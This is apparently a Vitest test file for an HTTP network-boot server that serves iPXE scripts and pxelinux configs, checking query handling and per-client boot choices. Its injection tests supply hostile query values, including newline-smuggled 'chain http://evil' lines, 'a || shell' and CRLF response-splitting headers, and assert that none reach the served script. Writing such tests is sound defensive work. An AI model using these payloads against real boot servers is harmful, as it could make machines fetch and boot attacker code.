/** HTTP-012, HTTP-013, SEC-013, and what of IPXE-001 to IPXE-008 and PXL-001 to PXL-009 is HTTP's part. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ordersOf } from '../orders/orders.ts';
import { chainTo, conditions } from '../orders/testing/made-orders.ts';
import { type HttpBench, startHttpBench } from './testing/http-bench.ts';

const BOOT1 =
  '#!ipxe\nchain http://pxe/boot2.php?mac=${net0/mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring} ||\n';
const CHAIN = '#!ipxe\nchain http://pxe.example.com/pxelinux.0\n';
const EXIT = '#!ipxe\nexit\n';
let bench: HttpBench;
beforeAll(async () => {
  const order = chainTo('http://pxe.example.com/pxelinux.0');
  bench = await startHttpBench({
    orders: ordersOf(
      [
        { match: conditions({ mac: '00:12:34:56:78:90' }), order },
        { match: conditions({ asset: 'A+B' }), order },
      ],
      { kind: 'exit' },
    ),
  });
  mkdirSync(join(bench.root, 'pxe', 'pxelinux.cfg'), { recursive: true });
  writeFileSync(join(bench.root, 'boot1.txt'), BOOT1);
  writeFileSync(join(bench.root, 'pxe', 'pxelinux.cfg', '01-88-99-aa-bb-cc-dd'), 'DEFAULT linux\n');
  writeFileSync(join(bench.root, 'pxe', 'pxelinux.cfg', 'C000025B'), 'DEFAULT hex\n');
  writeFileSync(
    join(bench.root, 'pxe', 'pxelinux.cfg', '585994b8-a6d6-a941-611d-0123456789ab'),
    'DEFAULT uuid\n',
  );
  writeFileSync(join(bench.root, 'pxe', 'vmlinuz'), 'kernel');
});
afterAll(() => bench[Symbol.asyncDispose]());

const body = async (target: string) => (await bench.get(target)).body.toString();

describe('HTTP-012: a raw + in a query value is not turned into a space', () => {
  it('and A%2BB is the same host, A%20B is not', async () => {
    expect(await body('/boot2.php?asset=A+B')).toBe(CHAIN);
    expect(await body('/boot2.php?asset=A%2BB')).toBe(CHAIN);
    expect(await body('/boot2.php?asset=A%20B')).toBe(EXIT);
  });
});

describe('HTTP-013: odd queries never cause 5xx', () => {
  it.each([
    ...[
      'asset=a&asset=b',
      'serial=&uuid=&asset=',
      'asset',
      '&&&',
      '=',
      'asset=${unexpanded}',
      '%',
      'a=%zz',
      '?',
      'a=b?c=d',
    ],
    ...['mac=a%0achain%20http://evil/', `serial=${'x'.repeat(8000)}`, '%00=%00', 'asset=%ff%fe'],
  ])('%s', async (query) => {
    expect([200, 414]).toContain((await bench.get(`/boot2.php?${query}`)).status);
  });
});

describe('SEC-013: values from clients are not injected into scripts', () => {
  it.each(['mac', 'serial', 'asset', 'hostname'])('%s', async (name) => {
    for (const value of ['a%0achain http://evil', '${cwduri}', 'a || shell', '%0d%0a%0d%0aHTTP/1.1 200 OK']) {
      const { answers, octets } = await bench.ask(
        `GET /boot2.php?${name}=${value.replaceAll(' ', '%20')} HTTP/1.0\r\n\r\n`,
      );
      expect(answers.map((answer) => answer.body.toString())).toEqual([EXIT]);
      expect(octets.toString()).not.toContain('evil');
    }
  });

  it('a value of 200 kB', async () => {
    const { answers } = await bench.ask(`GET /boot2.php?serial=${'x'.repeat(200_000)} HTTP/1.0\r\n\r\n`);
    expect(answers.map(({ status }) => status)).toEqual([414]);
  });
});

describe('IPXE-001, IPXE-002: scripts are served octet by octet', () => {
  it('boot1 is the same for all clients, with ${...} as it stands, and begins with #!ipxe', async () => {
    const [one, other] = [await body('/boot1.txt?mac=1'), await body('//boot1.txt?mac=2')];
    expect(one).toBe(BOOT1);
    expect(other).toBe(BOOT1);
  });

  it('boot2 begins with #!ipxe and white space', async () => {
    for (const query of ['', '?mac=00:12:34:56:78:90'])
      expect(await body(`/boot2.php${query}`)).toMatch(/^#!ipxe\n/);
  });
});

describe('IPXE-004: boot2 decides per client', () => {
  it.each(['00:12:34:56:78:90', '00%3A12%3A34%3A56%3A78%3A90'])('by MAC %s', async (mac) => {
    expect(await body(`/boot2.php?mac=${mac}`)).toBe(CHAIN);
  });
});

describe('IPXE-005: an unknown client gets 200 and exit', () => {
  it.each(['?mac=de:ad:be:ef:00:01', '?', ''])('with %j', async (query) => {
    expect(await body(`/boot2.php${query}`)).toBe(EXIT);
  });
});

describe('IPXE-008: files that scripts name are there', () => {
  it('HEAD says 200 and a size', async () => {
    const { status, header } = await bench.get('/pxe/vmlinuz', {}, 'HEAD');
    expect([status, header('content-length')]).toEqual([200, '6']);
  });
});

describe('PXL-001 to PXL-004, PXL-008, PXL-009: the search under an HTTP prefix', () => {
  /** As pxelinux (lpxelinux.0) asks: a connection for each name. */
  const ask = async (name: string) => {
    const { answers } = await bench.ask(
      `GET /pxe/pxelinux.cfg/${name} HTTP/1.0\r\nHost: pxe\r\nUser-Agent: Syslinux/6.04\r\nConnection: close\r\n\r\n`,
    );
    return `${answers[0]?.status} ${answers[0]?.body}`;
  };

  it.each([
    ['01-88-99-aa-bb-cc-dd', '200 DEFAULT linux\n'],
    ['C000025B', '200 DEFAULT hex\n'],
    ['585994b8-a6d6-a941-611d-0123456789ab', '200 DEFAULT uuid\n'],
    // Other spellings are other names.
    ['01-88-99-AA-BB-CC-DD', '404 not found\n'],
    ['01:88:99:aa:bb:cc:dd', '404 not found\n'],
    ['c000025b', '404 not found\n'],
    ['C000025', '404 not found\n'],
    ['b8945958-d6a6-41a9-611d-0123456789ab', '404 not found\n'],
    ['default', '404 not found\n'],
  ])('%s: %s', async (name, answer) => {
    expect(await ask(name)).toBe(answer);
  });

  it('a kernel is found under the same prefix', async () => {
    expect(await body('/pxe/vmlinuz')).toBe('kernel');
  });
});
